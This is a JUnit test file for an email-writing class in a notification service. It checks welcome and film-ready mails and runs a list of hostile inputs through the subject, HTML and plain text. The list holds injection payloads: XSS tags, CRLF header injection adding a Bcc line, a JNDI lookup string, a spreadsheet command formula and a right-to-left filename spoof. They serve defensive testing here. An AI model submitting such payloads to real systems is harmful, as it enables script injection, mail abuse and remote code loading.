package io.albumen.notification.mail;

import static org.assertj.core.api.Assertions.assertThat;

import io.albumen.common.UserId;
import io.albumen.notification.account.Contact;
import java.time.Duration;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

class MailWriterTest {
  static final List<String> HOSTILE =
      List.of(
          "<img src=x onerror=alert(1)>",
          "</h1><script>alert(1)</script>",
          "a\r\nBcc: everyone@example.com",
          "a\nContent-Type: text/html\n\n<b>",
          "a\u2028b\u2029c\u0085d",
          "photo\u202Egpj.exe",
          "{link} {#include layout /} {inject:config}",
          "${jndi:ldap://example.com/a}",
          "=cmd()|' /C calc'!A0",
          "\u001b[31mred",
          "\"><a href=\"javascript:alert(1)\">");

  private static final UUID VIDEO = UUID.randomUUID();
  private final MailWriter writer = new MailWriter(() -> "https://albumen.example/");

  private static Contact named(String name) {
    return new Contact(
        new UserId(UUID.randomUUID()), "ada@example.com", name, "en", "Europe/Lisbon");
  }

  private Mail filmMail(String name, String title) {
    return writer.write(named(name), new Letter.FilmReady(VIDEO, title, Duration.ofMillis(62_400)));
  }

  @Test
  void welcomesByName() {
    var mail = writer.write(named("Ada"), new Letter.Welcome());

    assertThat(mail.to()).isEqualTo("ada@example.com");
    assertThat(mail.text()).startsWith("Welcome, Ada").contains("https://albumen.example/");
    assertThat(mail.html()).contains("Welcome, Ada").contains("href=\"https://albumen.example/\"");
  }

  @Test
  void tellsWhichFilmIsReadyAndWhere() {
    var mail = filmMail("Ada", "Lisbon");

    assertThat(mail.subject()).isEqualTo("Your film “Lisbon” is ready");
    assertThat(mail.text()).contains("1:02", "https://albumen.example/films/" + VIDEO);
    assertThat(mail.html()).contains("1:02", "https://albumen.example/films/" + VIDEO);
  }

  @ParameterizedTest
  @FieldSource("HOSTILE")
  void keepsHostileTextInertInTheSubject(String text) {
    var subject = filmMail("Ada", text).subject();

    assertThat(subject).doesNotContainPattern("[\\p{Cc}\\p{Zl}\\p{Zp}\u202e]").hasSizeLessThan(160);
  }

  @ParameterizedTest
  @FieldSource("HOSTILE")
  void keepsHostileTextInertInTheHtml(String text) {
    var html = filmMail(text, text).html();

    assertThat(html)
        .doesNotContain("<img", "<script", "<b>", "\"javascript:")
        .containsOnlyOnce("<h1")
        .containsOnlyOnce("<a ");
  }

  @ParameterizedTest
  @FieldSource("HOSTILE")
  void letsHostileTextBeginNoLineOfThePlainText(String text) {
    var plain = filmMail(text, text).text();

    assertThat(plain.lines()).noneMatch(line -> line.startsWith("Bcc:"));
    assertThat(plain.lines()).noneMatch(line -> line.startsWith("Content-Type:"));
  }

  @Test
  void shortensWhatWouldNotFitASubject() {
    var shown = MailWriter.shown("🎞".repeat(500));

    assertThat(shown.codePointCount(0, shown.length())).isEqualTo(120);
    assertThat(shown).endsWith("…");
  }
}
